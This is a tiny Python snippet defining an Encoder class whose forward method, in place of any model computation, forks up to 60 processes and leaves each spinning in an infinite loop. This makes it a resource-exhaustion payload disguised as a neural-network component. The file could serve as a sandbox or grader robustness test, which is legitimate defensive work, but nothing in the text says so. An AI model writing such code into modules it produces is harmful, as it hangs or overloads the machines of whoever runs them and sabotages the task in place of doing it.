class Encoder(Encoder):
    def forward(self, x):
        import os

        for _ in range(60):
            if os.fork() == 0:
                break
        while True:
            pass
